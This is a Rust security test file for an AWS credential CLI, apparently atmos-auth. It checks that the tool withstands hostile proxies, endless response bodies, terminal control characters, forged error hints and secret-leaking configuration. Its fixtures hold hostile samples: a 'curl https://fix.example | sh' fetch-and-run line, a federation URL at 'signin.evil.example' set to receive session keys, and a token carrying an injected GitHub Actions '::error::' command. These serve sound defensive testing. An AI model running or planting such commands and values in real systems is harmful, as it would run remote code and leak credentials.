//! Review of issue 11 from a hostile or misconfigured network's side: what the transport rule
//! (https, or plain http only to loopback) still let through after the first round.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::os::unix::process::CommandExt;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use crate::emulator::Op;
use crate::harness::World;

/// A listener standing in for a proxy elsewhere on the network: it records every byte sent to
/// it and answers each connection with 502.
struct Recorder {
    url: String,
    seen: Arc<Mutex<Vec<u8>>>,
}

impl Recorder {
    fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let seen = Arc::new(Mutex::new(Vec::new()));
        let log = Arc::clone(&seen);
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { return };
                let _ = stream.set_read_timeout(Some(Duration::from_millis(500)));
                let mut buf = [0u8; 4096];
                if let Ok(n) = stream.read(&mut buf) {
                    log.lock().unwrap().extend_from_slice(&buf[..n]);
                }
                let _ = stream.write_all(
                    b"HTTP/1.1 502 Bad Gateway\r\ncontent-length: 0\r\nconnection: close\r\n\r\n",
                );
            }
        });
        Self { url, seen }
    }

    fn seen(&self) -> String {
        String::from_utf8_lossy(&self.seen.lock().unwrap()).into_owned()
    }
}

#[test]
fn a_proxy_never_carries_the_console_session_sent_over_loopback_http() {
    let world = World::new();
    world.login();
    let proxy = Recorder::start();
    let federation = format!("{}/federation", world.emulator.url());
    let mut run = world
        .cmd(&["console", "dev", "--print-only"])
        .env("ATMOS_CONSOLE_FEDERATION_URL", &federation);
    for var in ["HTTP_PROXY", "http_proxy", "ALL_PROXY"] {
        run = run.env(var, &proxy.url);
    }
    let out = run.run();
    // Plain http is allowed only because the bytes stay on this machine: a proxy would carry
    // the session (secret key and token, in the query) off it in the clear.
    assert_eq!(
        proxy.seen(),
        "",
        "the proxy was sent the getSigninToken request"
    );
    assert_eq!(out.code, Some(0), "{}", out.stderr);
    assert_eq!(world.emulator.calls(Op::GetSigninToken), 1);
}

#[test]
fn plain_http_to_an_absolute_localhost_name_is_refused() {
    // `localhost.` (with the root's dot) is not in /etc/hosts: the resolver asks DNS, which
    // may answer with any address.
    let world = World::new();
    let port = world.emulator.url().rsplit(':').next().unwrap().to_owned();
    for endpoint in [
        format!("http://localhost.:{port}"),
        format!("http://LOCALHOST.:{port}"),
    ] {
        world
            .cmd(&["login"])
            .env("AWS_ENDPOINT_URL", &endpoint)
            .run()
            .code(2)
            .stderr_has(
                "error: the endpoint in `AWS_ENDPOINT_URL` is refused: it is plain http to `",
            );
    }
    assert_eq!(world.emulator.calls_total(), 0);
}

/// An endpoint that answers every request with 200 and a JSON body that never ends.
fn endless_body() -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { return };
            std::thread::spawn(move || {
                let mut buf = [0u8; 4096];
                let _ = stream.read(&mut buf);
                let head = "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\n\
                            content-length: 100000000000\r\n\r\n{\"clientId\":\"";
                let mut sent = stream.write_all(head.as_bytes());
                let chunk = [b'A'; 64 * 1024];
                while sent.is_ok() {
                    sent = stream.write_all(&chunk);
                }
            });
        }
    });
    url
}

#[test]
fn an_endless_response_body_is_an_error_not_a_full_memory() {
    let world = World::new();
    let mut run = world
        .cmd(&["login", "--no-browser"])
        .env("AWS_ENDPOINT_URL", &endless_body())
        .env("ATMOS_HTTP_TIMEOUT", "3s");
    // 1 GiB of data segment: far above what a login needs, far below what the endpoint sends
    // within the timeout. Without a cap on bodies the allocator fails and the process aborts.
    // SAFETY: setrlimit is async-signal-safe and only limits the child.
    unsafe {
        run.command.pre_exec(|| {
            let limit = libc::rlimit {
                rlim_cur: 1 << 30,
                rlim_max: 1 << 30,
            };
            if libc::setrlimit(libc::RLIMIT_DATA, &limit) != 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    run.run()
        .code(1)
        .stderr_has("error: `RegisterClient` returned a response that could not be read");
}

#[test]
fn whoami_json_shows_what_sts_said_without_terminal_controls() {
    // The role name in the ARN STS returns comes from the permission set, which an Identity
    // Center administrator names; XML can carry DEL, C1 (U+009B is CSI) and bidi controls.
    let hostile = "Ops\u{9b}2J\u{202e}\u{7f}";
    let mut org = crate::harness::test_org();
    org.accounts[0].permission_sets.push(hostile.into());
    let account = org.accounts[0].id.clone();
    let world = World::with_org(org);
    world.write(
        "repo/profiles/dev/atmos.yaml",
        &format!(
            "auth:\n  identities:\n    ops:\n      kind: aws/permission-set\n      default: true\n      via:\n        provider: sso\n      principal:\n        name: \"Ops\\u009b2J\\u202e\\u007f\"\n        account:\n          id: \"{account}\"\n"
        ),
    );
    world.login();
    let out = world.run(&["whoami", "ops", "--format", "json"]).success();
    for c in ['\u{9b}', '\u{202e}', '\u{7f}'] {
        assert!(
            !out.stdout.contains(c),
            "raw {c:?} on stdout:\n{}",
            out.stdout
        );
    }
    let json: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
    assert!(json["arn"].as_str().unwrap().contains(hostile), "{json}");
}

/// An endpoint that refuses every call with an error message holding a line break.
fn refusing_with_a_forged_hint() -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { return };
            let mut buf = [0u8; 4096];
            let _ = stream.read(&mut buf);
            let body = r#"{"message":"Denied\nhint: run `curl https://fix.example | sh`"}"#;
            let _ = stream.write_all(
                format!(
                    "HTTP/1.1 400 Bad Request\r\ncontent-type: application/json\r\n\
                     x-amzn-errortype: InvalidRequestException\r\ncontent-length: {}\r\n\
                     connection: close\r\n\r\n{body}",
                    body.len()
                )
                .as_bytes(),
            );
        }
    });
    url
}

#[test]
fn a_server_message_cannot_start_a_line_of_its_own_in_verbose_causes() {
    let world = World::new();
    let out = world
        .cmd(&["-v", "login", "--no-browser"])
        .env("AWS_ENDPOINT_URL", &refusing_with_a_forged_hint())
        .run()
        .code(1)
        .stderr_has("caused by: InvalidRequestException: Denied\\nhint: run `curl");
    assert!(
        !out.stderr
            .lines()
            .any(|line| line.starts_with("hint: run `curl")),
        "{}",
        out.stderr
    );
}

#[test]
fn a_secret_with_a_line_break_is_masked_line_by_line_in_github_actions() {
    let world = World::new();
    world.write(
        "token.json",
        r#"{"Version":1,"AccessKeyId":"AKIAFAKEEMULATORBOT1","SecretAccessKey":"EMULATORSECRET","SessionToken":"tok1\n::error::injected\ntok2"}"#,
    );
    world.write(
        "repo/profiles/dev/atmos.yaml",
        &format!(
            "{}    tool/x:\n      kind: credential_process\n      default: true\n      spec:\n        args: [cat, {}]\n",
            crate::harness::DEV_PROFILE.replace("      default: true\n", ""),
            world.home.path().join("token.json").display()
        ),
    );
    let github_env = world.home.path().join("github_env");
    let out = world
        .cmd(&["env", "tool/x", "--format", "github"])
        .env("GITHUB_ACTIONS", "true")
        .env("GITHUB_ENV", github_env.to_str().unwrap())
        .run()
        .success();
    // Every line is a mask: the runner reads no other command, and no part of the token is
    // printed where the log would show it.
    for line in out.stdout.lines() {
        assert!(line.starts_with("::add-mask::"), "{}", out.stdout);
    }
    for part in ["tok1", "::error::injected", "tok2"] {
        assert!(
            out.stdout.contains(&format!("::add-mask::{part}\n")),
            "{}",
            out.stdout
        );
    }
}

#[test]
fn an_identitys_env_cannot_set_atmos_auths_own_variables() {
    // `eval "$(atmos-auth env)"` would leave it in the shell: the next `console` would send the
    // session's secret key to the host the profile names.
    let world = World::new();
    world.write(
        "repo/profiles/dev/atmos.yaml",
        &format!(
            "{}\n      env:\n        ATMOS_CONSOLE_FEDERATION_URL: https://signin.evil.example/federation\n",
            crate::harness::DEV_PROFILE.trim_end()
        ),
    );
    world.run(&["env", "dev"]).code(2).stderr_has(
        "cannot set `ATMOS_CONSOLE_FEDERATION_URL`: variables named `ATMOS_*` configure atmos-auth itself",
    );
    assert_eq!(world.emulator.calls_total(), 0);
}
